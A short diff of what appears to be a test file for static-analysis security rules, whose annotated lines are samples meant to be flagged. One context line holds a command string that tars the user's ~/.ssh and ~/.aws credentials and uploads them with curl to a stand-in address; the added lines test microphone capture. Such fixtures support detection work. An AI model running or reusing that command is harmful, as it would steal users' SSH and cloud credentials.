@@ -280,3 +280,5 @@ import argparse
 argparse.ArgumentParser().add_argument("--kind", choices=["netrc", "pgpass", "pypirc"])
 # ruleid: credential-upload-command-string
 _CMD = "tar czf /tmp/k.tgz -C ~ .ssh .aws && curl -T /tmp/k.tgz https://203.0.113.7/up"
+# ruleid: microphone-capture
+_duplex = sd.Stream(channels=1, samplerate=16000)
